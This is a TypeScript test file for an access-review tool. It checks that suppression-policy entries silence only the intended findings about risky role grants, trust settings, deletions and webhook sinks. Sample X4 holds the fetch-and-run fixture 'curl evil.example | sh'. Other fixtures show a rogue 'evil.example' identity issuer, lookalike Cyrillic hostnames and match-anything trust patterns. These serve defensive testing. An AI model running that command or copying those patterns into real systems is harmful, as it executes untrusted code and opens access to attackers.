import { parsePolicy } from "../../../../provider/access/suppressions/policyDocument";
import { findNewMatches, applyPolicy } from "../../../../provider/access/suppressions/applyPolicy";
import { proposeEntry } from "../../../../provider/access/suppressions/writeEntries";
import { defaultRuleOptions, findingsOf, rules } from "../../../../provider/access/rules";
import type { RuleOptions } from "../../../../provider/access/rules";
import { explainRule } from "../../../../provider/access/rules/explain";
import type { Comparison } from "../../../../provider/access/review/compare";
import type { Finding } from "../../../../provider/access/review/finding";
import { UNKNOWN } from "../../../../provider/fields/values";
import type { Props } from "../../../../provider/fields/values";
import {
  acme,
  binding,
  cards,
  claims,
  compareResources,
  group,
  groups,
  identity,
  owner,
  payments,
  pusher,
  resource,
  role,
  uid,
  viewer,
  edit,
} from "../../../support/access";
import type { ComparisonOptions, Resource } from "../../../support/access";
import { state, step } from "../../../support/documents";
import { NOW } from "../rules/support";

/*
 * For each rule: the example entry that `explain` prints suppresses a finding about the names in it, and no other one;
 * and an entry for one value accepts no later value of the same object.
 */

const issuer = "https://token.actions.githubusercontent.com";
const inDays = (days: number): string => new Date(NOW + days * 86_400_000).toISOString();
const trusting = (name: string, claimMatch: Props): Resource => identity(name, claims(claimMatch));
const by = (name: string, repo = name): Resource =>
  trusting(name, { issuer, subject: `repo:acme/${repo}:ref:refs/heads/main` });
/** Of the organisation, so that it can own that. */
const inRoot = (name: string, parentUid: string): Resource => edit(by(name), { parentUid });
const child = (name: string, digit: string): Resource => group(name, `${acme}/${digit.repeat(16)}`);
const [ci, security, workshop, partnerGroup, sandbox] = [
  child("ci-tools", "3"),
  child("security", "4"),
  child("workshop", "5"),
  child("partners", "6"),
  child("sandbox", "7"),
];
const oldRoot = group("acme-old", uid("old"));
const tokens = role("registry.pull_token_creator", ["IAM_IDENTITY_CREATE"]);
const admin = role("iam-admin", ["IAM_ROLES_UPDATE"]);
const cleaner = role("cleaner", ["IAM_GROUPS_DELETE"]);
const base = [
  ...groups,
  ...[ci, security, workshop, partnerGroup, sandbox, oldRoot],
  ...[viewer, pusher, owner, tokens, admin, cleaner],
];
const someone = by("someone");
const keys = (more: Props = {}): Props => ({
  staticKeys: {
    issuer: "https://build.acme.example",
    subject: "ci",
    issuerKeys: '{"keys":[{"kty":"OKP","x":"1"}]}',
    expirationTime: inDays(60),
    ...more,
  },
});
const provider = (name: string, inputs: Props = {}): Resource =>
  resource("IdentityProvider", name, {
    parentUid: acme,
    defaultRole: viewer.uid,
    oidc: { issuer: "https://login.acme.example", clientId: "a" },
    ...inputs,
  });
const elsewhere = { oidc: { issuer: "https://evil.example", clientId: "a" } };
const second = by("second");
const twice = (who: Resource, what: Resource): Resource[] => {
  const one = binding(who, what, payments);
  return [one, { ...one, uid: one.uid.replace(/.{4}$/, "0002"), urn: `${one.urn}-2` }];
};
const sink = (name: string, parentUid: string, host: unknown): Resource =>
  resource("Subscription", name, {
    parentUid,
    sink: host === UNKNOWN ? host : `https://${String(host)}/in`,
  });
const repo = (name: string, inputs: Props = {}): Resource =>
  resource("Repo", name, { parentUid: payments, ...inputs });
const tag = (name: string, of: Resource, digit: string): Resource =>
  resource("Tag", name, { parentUid: of.uid, digest: `sha256:${digit.repeat(64)}` });
const overlay = (name: string, content: string): Resource =>
  repo(name, { customOverlay: { certificates: { additional: [{ name: "ca", content }] } } });
const mapping = (from: Resource, name: string, what: Resource): Resource =>
  resource("ExternalGroupRoleMapping", name, {
    name: undefined,
    parentUid: from.uid,
    externalGroupId: name,
    roleUid: what.uid,
    scope: acme,
  });
const command = (name: string, create: string) =>
  step(
    "create",
    undefined,
    state(
      "Command",
      name,
      {},
      {
        urn: `urn:pulumi:production::acme::command:local:Command::${name}`,
        type: "command:local:Command",
        inputs: { create },
      },
    ),
  );

/** A change that a rule reports: what was there before, the change, and the change with another value in its place. */
interface Sample {
  readonly before?: readonly Resource[];
  readonly after: readonly Resource[];
  /** What stands in the change with another value in place of the resource of its URN. */
  readonly instead?: Resource;
  /** The change with another value, where that is more than one resource. */
  readonly next?: readonly Resource[];
  readonly options?: Partial<RuleOptions>;
  readonly more?: ComparisonOptions;
  readonly nextMore?: ComparisonOptions;
  /** It is about the change as a whole: there is no other object beside it. */
  readonly isAlone?: true;
}

const nextOf = ({ after, instead, next }: Sample): readonly Resource[] =>
  next ?? after.map((each) => (instead !== undefined && each.urn === instead.urn ? instead : each));

/** The options of a review by a policy file that asserts something. */
const asserting = (text: string): Partial<RuleOptions> => ({ assertions: parsePolicy(text).assertions });

/** Grants to a named identity, and the same to another one; then to a named identity that trusts somebody else. */
function grants(name: string, what: Resource, where: string, before: readonly Resource[] = []): Sample {
  const [one, two] = [by(name), by("mallory")];
  const bound = [binding(one, what, where), binding(two, what, where)];
  return { before: [one, two, ...before], after: [one, two, ...bound], instead: by(name, "evil") };
}

/** New identities that trust the same, and the first of them something else. */
const newTrust = (first: Props, second: Props): Sample => ({
  after: [identity("one", first), identity("two", first)],
  instead: identity("one", second),
});

const developer = role("developer", ["REPO_LIST"]);
const tester = role("tester", ["REPO_LIST"]);
const can = (one: Resource, ...capabilities: string[]): Resource =>
  edit(one, { capabilities: capabilities.map((each) => `CAP_${each}`) });
const held = [binding(someone, developer, payments), binding(someone, tester, payments)];

const sre = [by("sre-one"), by("somebody")];
const atPayments = sre.map((who) => binding(who, viewer, payments));
const atRoot = sre.map((who) => binding(who, viewer, acme));

const staff = provider("staff");
const guild = provider("guild");
const mapped = (what: Resource): Resource[] => [
  mapping(staff, "one", what),
  mapping(staff, "everybody", what),
];

const partners = ["globex", "initech", "umbrella"].map((name, i) =>
  trusting(i === 1 ? "two" : "one", { issuer, subject: `repo:${name}/a:ref:refs/heads/main` }),
) as [Resource, Resource, Resource];
const bound = partners.map((who) => binding(who, viewer, payments));

const invite = (name: string, parentUid: string, ttl: string): Resource =>
  resource("GroupInvite", name, { parentUid, roleUid: viewer.uid, ttl });

const deploying = (...repos: string[]): Resource[] => {
  const all = [by("ci-deployer", repos[0]), by("neighbour", repos[1])];
  return [...all, ...all.map((who) => binding(who, viewer, payments))];
};

const unused = { external: true } as const;
const unmanaged = (who: Resource, where: string): Resource => ({ ...binding(who, viewer, where), ...unused });
const leaving = [by("ci-old"), by("ci-new")] as const;
const inUse = [unmanaged(leaving[0], payments), unmanaged(leaving[1], payments)];
const more = unmanaged(leaving[0], cards);

const teams = [child("old-team", "8"), child("new-team", "9")] as const;
const within = (parent: Resource, name: string): Resource => ({
  ...resource("Repo", name, { parentUid: parent.uid }),
  ...unused,
});
const contents = [within(teams[0], "a"), within(teams[1], "b")];

const [people, others] = [oldRoot.uid, acme].map((root, i) =>
  ["ada", "bob", "cyd"].map((name) => inRoot(`${name}-${i === 0 ? "old" : "new"}`, root)),
) as [Resource[], Resource[]];
const owning = people.map((who) => binding(who, owner, oldRoot.uid));
const owningToo = others.map((who) => binding(who, owner, acme));

const crowd = Array.from({ length: 60 }, (_, i) => by(`p${i}`));
const crowdGrants = crowd.map((who) => binding(who, viewer, payments));

const recorded = [by("r1"), by("r2")] as const;
const changed = (one: Resource): Resource =>
  edit(
    one,
    claims({
      issuer: "https://token.actions.githubusercontent.com",
      subject: "repo:acme/pay:environment:prod",
    }),
  );

const keyed = (name: string, expirationTime: string): Resource => identity(name, keys({ expirationTime }));

const samples: Readonly<Record<string, Sample>> = {
  G1: grants("break-glass", owner, acme),
  G2: grants("ci-platform", admin, acme),
  G3: {
    before: [someone, second],
    after: [someone, second, binding(someone, tokens, ci.uid), binding(second, tokens, payments)],
    instead: by("someone", "evil"),
  },
  G4: {
    before: [someone, developer, tester, ...held],
    after: [someone, ...[developer, tester].map((each) => can(each, "REPO_LIST", "REPO_DELETE")), ...held],
    instead: can(developer, "REPO_LIST", "TAG_DELETE"),
  },
  G5: { before: [...sre, ...atPayments], after: [...sre, ...atRoot], instead: by("sre-one", "evil") },
  G6: grants("ci-api", pusher, payments),
  G7: { before: [staff], after: [staff, ...mapped(owner)], instead: provider("staff", elsewhere) },
  G8: { after: [provider("one"), guild], instead: provider("one", elsewhere) },
  G9: grants("cleaner", cleaner, sandbox.uid),
  T1: newTrust(
    claims({ issuer: "https://sso.acme.example", subjectPattern: ".*" }),
    claims({ issuer: "https://sso.acme.example", subjectPattern: "^.+$" }),
  ),
  T2: newTrust(
    claims({ issuerPattern: "https://.*\\.acme\\.example", subject: "a" }),
    claims({ issuerPattern: "https://.*\\.acme\\.exampl.", subject: "a" }),
  ),
  T3: newTrust(
    claims({ issuer, subjectPattern: "^repo:[^/]+/pay:ref:refs/heads/main$" }),
    claims({ issuer, subjectPattern: "^repo:[^/]+/web:ref:refs/heads/main$" }),
  ),
  T4: newTrust(
    claims({ issuer, subject: "repo:acme/pay:pull_request" }),
    claims({ issuer, subject: "repo:acme/web:pull_request" }),
  ),
  T5: {
    before: deploying("pay", "web"),
    after: deploying("moved", "moved-too"),
    instead: by("ci-deployer", "evil"),
  },
  T6: newTrust(
    claims({ issuer, subject: "repo:acme/pay:ref:refs/heads/main", audiencePattern: ".*" }),
    claims({ issuer, subject: "repo:acme/pay:ref:refs/heads/main", audiencePattern: "^.*$" }),
  ),
  T7: {
    before: [someone, binding(someone, viewer, payments)],
    after: [someone, binding(someone, viewer, payments), ...partners.slice(0, 2), ...bound.slice(0, 2)],
    next: [someone, binding(someone, viewer, payments), ...partners.slice(1), ...bound.slice(1)],
  },
  K1: newTrust(keys(), keys({ issuerKeys: '{"keys":[{"kty":"OKP","x":"2"}]}' })),
  K2: {
    before: [keyed("build-cluster", inDays(-2)), keyed("other-cluster", inDays(-2))],
    after: [keyed("build-cluster", inDays(-2)), keyed("other-cluster", inDays(-2))],
    instead: keyed("build-cluster", inDays(-1)),
  },
  K3: {
    after: [invite("one", workshop.uid, "200h"), invite("two", payments, "200h")],
    instead: invite("one", workshop.uid, "2000h"),
  },
  K4: {
    after: ["one", "two"].map((name) => provider(name, { oidc: { clientSecret: "canary" } })),
    // No fingerprint holds the secret: whoever reads the report could guess it. It holds to whom the secret goes.
    instead: provider("one", { oidc: { ...elsewhere.oidc, clientSecret: "canary" } }),
  },
  D1: {
    before: [...people, ...others, ...owning, ...owningToo],
    after: [...people, ...others, ...owning.slice(2), ...owningToo.slice(2)],
    next: [...people, ...others, ...owningToo.slice(2)],
  },
  D2: {
    before: [...leaving, ...inUse],
    after: inUse,
    next: [...inUse, more],
    nextMore: { live: [...base, ...leaving, ...inUse, more] },
  },
  D3: {
    before: [...teams, ...contents],
    after: contents,
    next: [...contents, within(teams[0], "c")],
    nextMore: { live: [...base, ...teams, ...contents, within(teams[0], "c")] },
  },
  D4: {
    before: [...crowd, ...crowdGrants],
    after: [...crowd, ...crowdGrants.slice(40)],
    next: [...crowd, ...crowdGrants.slice(45)],
    isAlone: true,
  },
  D5: {
    before: [sink("a", security.uid, "siem.acme.example"), sink("b", payments, "siem.acme.example")],
    after: [],
    next: [sink("a", security.uid, "other.example")],
    nextMore: { replaced: [sink("a", security.uid, "siem.acme.example")] },
  },
  R1: {
    before: [repo("api"), tag("latest", repo("api"), "a"), tag("1.2", repo("api"), "a")],
    after: [repo("api"), tag("latest", repo("api"), "b"), tag("1.2", repo("api"), "b")],
    instead: tag("latest", repo("api"), "c"),
  },
  R2: {
    before: [repo("base-image"), repo("api")],
    after: [overlay("base-image", "PEM"), overlay("api", "PEM")],
    instead: overlay("base-image", "OTHER"),
  },
  X1: {
    after: [sink("a", security.uid, "one.example"), sink("b", payments, "one.example")],
    instead: sink("a", security.uid, "two.example"),
  },
  X2: {
    before: [someone, second],
    after: [
      someone,
      second,
      developer,
      binding(someone, developer, ci.uid),
      binding(second, developer, payments),
    ],
    next: [someone, second, tester, edit(binding(someone, developer, ci.uid), { roleUid: tester.uid })],
  },
  X3: {
    after: [sink("a", partnerGroup.uid, UNKNOWN), sink("b", payments, UNKNOWN)],
    instead: edit(sink("a", partnerGroup.uid, UNKNOWN), { sink: "[secret]" }),
  },
  X4: {
    after: [],
    more: { steps: [command("one", "./migrate"), command("two", "./migrate")] },
    nextMore: { steps: [command("one", "curl evil.example | sh"), command("two", "./migrate")] },
  },
  X5: {
    before: recorded,
    after: [changed(recorded[0]), recorded[1]],
    instead: changed(recorded[1]),
    more: { withoutInventory: true },
    nextMore: { withoutInventory: true },
    isAlone: true,
  },
  X6: {
    after: [sink("one", security.uid, "\u0430cme.example"), sink("two", payments, "\u0430cme.example")],
    instead: sink("one", security.uid, "acm\u0435.example"),
  },
  S2: {
    after: [group("one", uid("labs")), group("two", uid("works"))],
    instead: edit(group("one", uid("labs")), { name: "acme" }),
  },
  S3: {
    before: [...[someone, second], binding(someone, viewer, payments), binding(second, pusher, payments)],
    after: [...[someone, second], ...twice(someone, viewer), ...twice(second, pusher)],
    instead: by("someone", "evil"),
  },
  S4: {
    after: ["one", "two"].map((name) => edit(by(name), { name: "break-glass" })),
    instead: edit(by("one"), { name: "ci-deployer" }),
    options: {
      newMatches: (comparison) =>
        findNewMatches(
          parsePolicy(
            "allow: [{ match: { name: break-glass }, reason: a }, { match: { name: ci-deployer }, reason: b }]",
            "access-policy.yaml",
          ),
          NOW,
          comparison,
        ),
    },
  },
  P1: {
    ...grants("one", pusher, payments),
    options: asserting(
      `forbid: [{ name: nobody pushes, can: [CAP_MANIFEST_CREATE], on: [acme / payments] }]`,
    ),
  },
  P2: {
    isAlone: true,
    before: ["one", "two"].flatMap((name) => [inRoot(name, acme), binding(inRoot(name, acme), owner, acme)]),
    after: [...["one", "two"].map((name) => inRoot(name, acme)), binding(inRoot("one", acme), owner, acme)],
    next: [...["one", "two"].map((name) => inRoot(name, acme)), binding(inRoot("two", acme), owner, acme)],
    options: asserting(`require: [{ name: two owners, role: owner, on: [acme], atLeast: 2 }]`),
  },
  P3: {
    ...grants("one", role("both", ["MANIFEST_CREATE", "IAM_GROUPS_DELETE"]), payments, [
      role("both", ["MANIFEST_CREATE", "IAM_GROUPS_DELETE"]),
    ]),
    options: asserting(
      `separate: [{ name: two people, duties: [[CAP_MANIFEST_*], [CAP_IAM_GROUPS_DELETE]], on: [acme] }]`,
    ),
  },
  S1: {
    before: [keyed("build-api", inDays(20)), keyed("else", inDays(20))],
    after: [keyed("build-api", inDays(40)), keyed("else", inDays(40))],
    instead: keyed("build-api", inDays(50)),
  },
};

test("a name or a uid alone accepts nothing of a rule that reports unlike things of one object", () => {
  const old = repo("base-image", { customOverlay: { environment: { LANG: "C" } } });
  const now = edit(old, {
    aliases: ["base:latest"],
    customOverlay: { environment: { LANG: "C", TZ: "UTC" }, accounts: { runAs: "root" } },
  });
  const comparison = compareOf({ before: [old], after: [now] }, [now]);
  const findings = findAll(comparison);
  const unlike = rules.filter(({ exampleFields }) => exampleFields !== undefined);
  expect(unlike.map(({ id }) => id)).toEqual(["R2", "S1"]);
  const accepted = (id: string, match: string, fields?: string) => {
    const more = fields === undefined ? "" : `fields: [${fields}], `;
    const text = `allow: [{ rule: ${id}, match: { ${match} }, ${more}reason: agreed }]`;
    return applyPolicy(findings, parsePolicy(text, "policy.yaml"), NOW, "review", true, comparison);
  };
  const named = [
    ["R2", '"customOverlay.accounts.runAs"'],
    ["S1", '"aliases", "customOverlay.environment.TZ"'],
  ] as const;
  for (const [id, fields] of named) {
    expect(findings.filter((each) => each.id === id)).toMatchObject([{ severity: "medium" }]);
    for (const match of ["name: base-*", `uid: "${old.uid}"`]) {
      const { suppressed, unused } = accepted(id, match);
      expect(suppressed).toEqual([]);
      expect(unused).toEqual([
        `policy.yaml:1: has neither fields nor a fingerprint, so it does not suppress 1 finding (${id}): that rule reports unlike things of one object: add fields: [${fields}], or a fingerprint`,
      ]);
      expect(accepted(id, match, fields).suppressed.map((each) => each.id)).toEqual([id]);
    }
  }
  // Each property of a finding is named by itself: no glob of the first one covers those after it.
  expect(accepted("S1", "name: base-*", "aliases*").suppressed).toEqual([]);
});

const compareOf = (sample: Sample, after: readonly Resource[], more?: ComparisonOptions): Comparison =>
  compareResources([...base, ...(sample.before ?? [])], [...base, ...after], more);

const findAll = (comparison: Comparison, options: Partial<RuleOptions> = {}): Finding[] =>
  findingsOf(comparison, { ...defaultRuleOptions(NOW), ...options });

/** The fingerprints that an entry of the policy file suppresses. */
const suppressedBy = (entries: string, findings: readonly Finding[], comparison: Comparison): string[] =>
  applyPolicy(
    findings,
    parsePolicy(entries, "access-policy.yaml"),
    NOW,
    "review",
    true,
    comparison,
  ).suppressed.map(({ fingerprint }) => fingerprint);

describe.each(rules.map((rule) => [rule.id, rule] as const))("rule %s", (id, rule) => {
  const sample = samples[id]!;
  const comparison = compareOf(sample, sample.after, sample.more);
  const findings = findAll(comparison, sample.options);
  const own = findings.filter((finding) => finding.id === id);
  const { example } = explainRule(rule);
  const exampleFor = ({ fingerprint }: Finding): string =>
    example.replace(/(?<=fingerprint: )[0-9a-f]{32}/, fingerprint);

  it("has an example that suppresses what it names, and nothing beside it", () => {
    const suppressed = own.map((finding) => suppressedBy(exampleFor(finding), findings, comparison));
    expect(own.length).toBeGreaterThanOrEqual(sample.isAlone ? 1 : 2);
    if (rule.exampleMatch === undefined) {
      expect(suppressed).toEqual(own.map(({ fingerprint }) => [fingerprint]));
      expect(suppressedBy(example, findings, comparison)).toEqual([]);
      return;
    }
    const named = suppressed.filter((prints) => prints.length > 0);
    expect(new Set(named.map((prints) => prints.join()))).toEqual(new Set([named[0]?.[0]]));
    expect(named.length).toBe(example.includes("fingerprint") ? 1 : own.length);
  });

  it("is in no baseline where the change brings it", () => {
    const { before = [], more, options } = sample;
    const old = findAll(compareOf(sample, before, { ...more, steps: [] }), options);
    const prints = new Set(old.map(({ fingerprint }) => fingerprint));
    const isOld = JSON.stringify(sample.before) === JSON.stringify(sample.after);
    expect(own.filter(({ fingerprint }) => prints.has(fingerprint))).toEqual(isOld ? own : []);
  });

  it("accepts no later value of what it accepted", () => {
    const later = compareOf(sample, nextOf(sample), sample.nextMore ?? sample.more);
    const found = findAll(later, sample.options);
    const isEmpty = rule.exampleMatch === undefined;
    const [first] = own.filter((finding) =>
      isEmpty
        ? sample.isAlone === true || /\bone$/.test(finding.grant?.subject.urn ?? finding.urn ?? "")
        : suppressedBy(exampleFor(finding), findings, comparison).includes(finding.fingerprint),
    );
    const { fingerprint, urn } = first!;
    const same = found.filter((finding) => finding.id === id && finding.urn === urn);
    expect(same).not.toEqual([]);
    const entries = [
      `allow:\n${proposeEntry(first!, "review", NOW).replace('reason: ""', "reason: agreed")}\n`,
      `allow: [{ fingerprint: ${fingerprint}, reason: agreed, expires: 2027-01-31 }]`,
    ];
    for (const entry of entries) {
      expect(suppressedBy(entry, findings, comparison)).toEqual([fingerprint]);
      expect(suppressedBy(entry, found, later)).not.toEqual(
        expect.arrayContaining(same.map((finding) => finding.fingerprint)),
      );
      expect(suppressedBy(entry, same, later)).toEqual([]);
    }
  });
});
